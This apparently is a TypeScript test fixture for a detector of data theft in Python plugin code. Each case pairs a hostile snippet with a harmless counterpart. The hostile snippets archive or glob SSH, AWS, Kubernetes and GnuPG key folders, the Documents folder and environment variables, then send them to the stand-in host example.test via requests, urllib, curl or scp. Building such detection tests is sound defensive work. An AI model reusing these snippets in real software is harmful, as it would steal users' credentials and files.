import { type Attack, python } from './attack-pack.test-support.ts'

/** Files of the user that are packed, or found by a pattern, before they are sent. */
export const packings: Attack[] = [
  python(
    'packs a folder of keys in memory',
    'import io, tarfile, urllib.request\nfrom pathlib import Path\ndef prepare():\n    packed = io.BytesIO()\n    with tarfile.open(fileobj=packed, mode="w:xz") as archive:\n        archive.add(Path.home() / ".aws", arcname="settings")\n    request = urllib.request.Request("https://example.test/", data=packed.getvalue(), method="PUT")\n    urllib.request.urlopen(request, timeout=10).close()',
    'import io, tarfile, urllib.request\nfrom pathlib import Path\ndef prepare():\n    packed = io.BytesIO()\n    with tarfile.open(fileobj=packed, mode="w:xz") as archive:\n        archive.add(Path(__file__).parent / "presets", arcname="settings")\n    request = urllib.request.Request("https://example.test/", data=packed.getvalue(), method="PUT")\n    urllib.request.urlopen(request, timeout=10).close()',
  ),
  python(
    'packs a folder of keys on the disk',
    'import os, tempfile, uuid, zipfile, requests\ndef go():\n    target = os.path.join(tempfile.gettempdir(), uuid.uuid4().hex)\n    with zipfile.ZipFile(target, "w") as z:\n        for name in os.listdir(os.path.expanduser("~/.kube")):\n            z.write(os.path.join(os.path.expanduser("~/.kube"), name))\n    with open(target, "rb") as f:\n        requests.post("https://example.test/u", files={"f": f})',
    'import os, tempfile, uuid, zipfile, requests\ndef go(presets):\n    target = os.path.join(tempfile.gettempdir(), uuid.uuid4().hex)\n    with zipfile.ZipFile(target, "w") as z:\n        for name in os.listdir(presets):\n            z.write(os.path.join(presets, name))\n    with open(target, "rb") as f:\n        requests.post("https://example.test/u", files={"f": f})',
  ),
  python(
    'makes an archive of the documents of the user',
    'import os, shutil, requests\npath = shutil.make_archive("/tmp/backup", "zip", os.path.expanduser("~/Documents"))\nrequests.post("https://example.test/u", data=open(path, "rb"))',
    'import os, shutil, requests\npath = shutil.make_archive("/tmp/backup", "zip", os.path.join(os.path.dirname(__file__), "presets"))\nrequests.post("https://example.test/u", data=open(path, "rb"))',
  ),
  python(
    'makes an archive of the outputs and names it again',
    'import shutil, requests, folder_paths\nshutil.make_archive("/tmp/outputs", "gztar", folder_paths.get_output_directory())\nrequests.post("https://example.test/u", data=open("/tmp/outputs.tar.gz", "rb").read())',
    'import shutil, folder_paths\nshutil.make_archive("/tmp/outputs", "gztar", folder_paths.get_output_directory())\nprint(open("/tmp/outputs.tar.gz", "rb").read(4))',
  ),
  python(
    'puts the environment into an archive in memory',
    'import io, json, os, zipfile, requests\nbuffer = io.BytesIO()\nwith zipfile.ZipFile(buffer, "w") as z:\n    z.writestr("env.json", json.dumps(dict(os.environ)))\nbuffer.seek(0)\nrequests.put("https://example.test/e", data=buffer)',
    'import io, json, zipfile, requests\nbuffer = io.BytesIO()\nwith zipfile.ZipFile(buffer, "w") as z:\n    z.writestr("info.json", json.dumps({"version": 3}))\nbuffer.seek(0)\nrequests.put("https://example.test/e", data=buffer)',
  ),
  python(
    'writes the environment to a compressed file and reads it back',
    'import gzip, json, os, tempfile, requests\np = os.path.join(tempfile.mkdtemp(), "x")\nwith gzip.open(p, "wt") as f:\n    json.dump(dict(os.environ), f)\nrequests.post("https://example.test/e", data=open(p, "rb").read())',
    'import gzip, json, os, tempfile, requests\np = os.path.join(tempfile.mkdtemp(), "x")\nwith gzip.open(p, "wt") as f:\n    json.dump({"size": 1}, f)\nrequests.post("https://example.test/e", data=open(p, "rb").read())',
  ),
  python(
    'finds keys with a pattern',
    'import glob, os, requests\nfor path in glob.glob(os.path.expanduser("~/.ssh/id_*")):\n    requests.post("https://example.test/k", data=open(path).read())',
    'import glob, os, requests\nfor path in glob.glob(os.path.join(os.path.dirname(__file__), "presets", "*.json")):\n    requests.post("https://example.test/k", data=open(path).read())',
  ),
  python(
    'walks a folder of keys by a pattern of a path',
    'import requests\nfrom pathlib import Path\nfor path in Path.home().glob(".aws/**/*"):\n    requests.post("https://example.test/k", data=path.read_bytes())',
    'import requests\nfrom pathlib import Path\nfor path in Path(__file__).parent.glob("presets/**/*"):\n    requests.post("https://example.test/k", data=path.read_bytes())',
  ),
  python(
    'scans a folder of keys and copies it first',
    'import os, shutil, requests, tempfile\nwork = tempfile.mkdtemp()\nshutil.copytree(os.path.expanduser("~/.gnupg"), os.path.join(work, "g"))\nfor entry in os.scandir(os.path.join(work, "g")):\n    requests.post("https://example.test/k", data=open(entry.path, "rb"))',
    'import os, shutil, requests, tempfile\nwork = tempfile.mkdtemp()\nshutil.copytree(os.path.join(os.path.dirname(__file__), "presets"), os.path.join(work, "g"))\nfor entry in os.scandir(os.path.join(work, "g")):\n    requests.post("https://example.test/k", data=open(entry.path, "rb"))',
  ),
  python(
    'hands a key to a transfer program as a word of its own',
    'import os, subprocess\nsubprocess.run(["curl", "-s", "-T", os.path.expanduser("~/.ssh/id_ed25519"), "https://example.test/u"])',
    'import subprocess\nsubprocess.run(["curl", "-s", "-T", "preset.json", "https://example.test/u"])',
  ),
  python(
    'copies a folder of keys to another machine',
    'import subprocess\nfrom pathlib import Path\nsubprocess.Popen(["scp", "-r", str(Path.home() / ".kube"), "u@example.test:/in"])',
    'import subprocess\nsubprocess.Popen(["scp", "-r", "presets", "u@example.test:/in"])',
  ),
]
